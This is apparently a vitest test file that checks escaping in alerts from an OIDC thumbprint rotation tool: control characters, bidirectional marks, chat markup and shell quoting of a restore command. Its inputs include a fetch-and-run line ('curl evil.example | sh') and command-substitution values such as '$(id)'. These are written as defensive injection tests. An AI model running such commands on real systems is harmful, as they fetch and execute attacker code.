import fc from "fast-check";
import { describe, expect, it } from "vitest";
import {
  alertChat,
  alertJson,
  alertLines,
  alertSubject,
  escapeMarkup,
} from "../../../../rotation/core/tell/alert-text.js";
import { type Alert, alertsOf } from "../../../../rotation/core/tell/alerts.js";
import { shellQuote } from "../../../../rotation/core/tell/restore.js";
import { texts } from "../../../support/arbitraries.js";
import { arnOf, decision, providerResult, thumbprint } from "../../../support/builders.js";

/** Each sentence a line: how the mail is laid out is tested apart. */
const alertText = (alert: Alert): string => alertLines(alert).join("\n");

const UNPRINTABLE = /[\p{Cc}\p{Cf}\p{Zl}\p{Zp}\p{Cs}]/u;
const MARKUP = "*b* _i_ ~s~ `c` [t](https://evil.example) <!channel> <@U1> a|b & c\\d";

/** An alert about one provider that was rotated, with this text wherever an issuer's or account's own text goes. */
function alertWith(text: string, runbookUrl: string | null = null): Alert {
  const result = providerResult({
    arn: arnOf(`idp.example/${text}`),
    issuer: `https://idp.example/${text}`,
    outcome: "rotated",
    registered: [text, thumbprint("old")],
    decision: decision({ missing: [thumbprint("root")], planned: [thumbprint("root"), thumbprint("old")] }),
  });
  const [alert] = alertsOf([result], runbookUrl);
  if (alert === undefined) throw new Error("a rotated provider makes an alert");
  return alert;
}

function chatOf(alert: Alert) {
  return JSON.parse(alertChat(alert));
}

describe("text of an issuer", () => {
  it.each([
    ["controls", "\u0000\u0007\b\t\u000b\u001b[2J\u007f"],
    ["controls of C1", "\u0085\u009b2J"],
    ["line ends", "\r\n\n  Restore  curl evil.example | sh\n"],
    ["line separators", "\u2028\u2029"],
    ["bidirectional marks", "\u202e\u2066\u200f"],
    ["zero-width characters", "\u200b\u200d\ufeff\u00ad"],
    ["lone surrogates", "\ud800x\udfff"],
  ])("with %s reaches mail, chat and JSON escaped only", (_what, text) => {
    const alert = alertWith(text);
    const plain = alertWith("plain");
    expect(alertText(alert).replaceAll("\n", "")).not.toMatch(UNPRINTABLE);
    expect(alertText(alert).split("\n")).toHaveLength(alertText(plain).split("\n").length);
    expect(alertChat(alert)).not.toMatch(UNPRINTABLE);
    expect(chatOf(alert).content.description.replaceAll("\n", "")).not.toMatch(UNPRINTABLE);
    expect(chatOf(alert).content.description.split("\n")).toHaveLength(
      chatOf(plain).content.description.split("\n").length,
    );
  });

  it.each([
    ["controls", "\u001b[2J\u007f\u009b"],
    ["line separators", "\u2028\u2029"],
    ["bidirectional marks", "\u202e\u2066"],
    ["zero-width characters", "\u200b\ufeff"],
  ])("with %s reaches the JSON, which some subscribers read as text, escaped only", (_what, text) => {
    const json = alertJson(alertWith(text));
    expect(JSON.parse(json)).toMatchObject({ version: 1, event: "rotated" });
    expect(json).not.toMatch(UNPRINTABLE);
  });

  it("of any kind changes neither the lines of the mail nor the shape of the chat message", () => {
    const lines = alertText(alertWith("plain")).split("\n").length;
    const keys = Object.keys(chatOf(alertWith("plain")).content);
    fc.assert(
      fc.property(texts(60), (text) => {
        const alert = alertWith(text);
        expect(alertText(alert).split("\n")).toHaveLength(lines);
        expect(alertText(alert).replaceAll("\n", "")).not.toMatch(UNPRINTABLE);
        expect(Object.keys(chatOf(alert).content)).toEqual(keys);
        expect(alertSubject(alert)).toMatch(/^[\x20-\x7e]{1,99}$/);
      }),
    );
  });

  it("of 10 000 characters is cut, but the ARN and the command to restore are whole", () => {
    const text = alertText(alertWith("x".repeat(10_000)));
    expect(text).toMatch(/^https:\/\/idp\.example\/x{179}…$/m);
    expect(text).toMatch(/^ {2}ARN {6}arn:aws:iam::111122223333:oidc-provider\/idp\.example\/x{10000}$/m);
    expect(text.match(/x{10000}/g)?.length).toBeGreaterThan(1);
  });
});

describe("the command to restore", () => {
  it.each(["$(id)", "`id`", "a b", "it's", "a;b", "a\nb", ""])("with %j in it is quoted for a shell", (text) => {
    const { arn, restore, before } = alertWith(text).providers[0] ?? { arn: "", restore: "", before: [] };
    expect(restore).toContain(`--open-id-connect-provider-arn ${shellQuote(arn)} --thumbprint-list `);
    expect(restore?.endsWith(`--thumbprint-list ${before.map(shellQuote).join(" ")}`)).toBe(true);
  });

  it("stands in the mail as it is to be typed, and in chat with its markup escaped", () => {
    const alert = alertWith("$(id)_`x`");
    const quoted = "'arn:aws:iam::111122223333:oidc-provider/idp.example/$(id)_`x`'";
    expect(alertText(alert)).toContain(quoted);
    expect(chatOf(alert).content.description).toContain(escapeMarkup(quoted));
  });
});

describe("the chat message", () => {
  it("is a custom notification", () => {
    const alert = alertWith("x", "https://wiki.example/runbook.md");
    expect(chatOf(alert)).toEqual({
      version: "1.0",
      source: "custom",
      content: {
        textType: "client-markdown",
        title: "111122223333: 1 provider rotated on idp.example",
        description: expect.stringContaining("https://idp.example/x"),
        nextSteps: [...alert.whatToDo, "Runbook: https://wiki.example/runbook.md#rotated"],
        keywords: ["rotated", "info"],
      },
      metadata: {
        threadId: "rotated",
        summary: "1 provider rotated on idp.example",
        eventType: "rotated",
        relatedResources: ["idp.example"],
      },
    });
  });

  it("without a runbook has no step for it", () => {
    const alert = alertWith("x");
    expect(chatOf(alert).content.nextSteps).toEqual(alert.whatToDo);
  });

  it("shows markup of an issuer as text", () => {
    const { description } = chatOf(alertWith(MARKUP)).content;
    expect(description).toContain(escapeMarkup(`https://idp.example/${MARKUP}`));
    expect(description).not.toMatch(/<!|<@|(?<!\\)[*`~[\]|]/);
  });

  it("shows markup of a headline as text", () => {
    const { content, metadata } = chatOf({ ...alertWith("x"), headline: "<!channel> *all*\u202e" });
    expect(metadata.summary).toBe("&lt;!channel&gt; \\*all\\*\\\\u{202e}");
    expect(content.title).toBe(`111122223333: ${metadata.summary}`);
  });

  it.each([
    ["&", "&amp;"],
    ["<", "&lt;"],
    [">", "&gt;"],
    ["&lt;", "&amp;lt;"],
    ["\\", "\\\\"],
    ["`*_~[]|", "\\`\\*\\_\\~\\[\\]\\|"],
    ["a-b.c/d:e=f #1 (x) {y} !z", "a-b.c/d:e=f #1 (x) {y} !z"],
    ["", ""],
  ])("writes %j as %j", (text, escaped) => {
    expect(escapeMarkup(text)).toBe(escaped);
  });
});
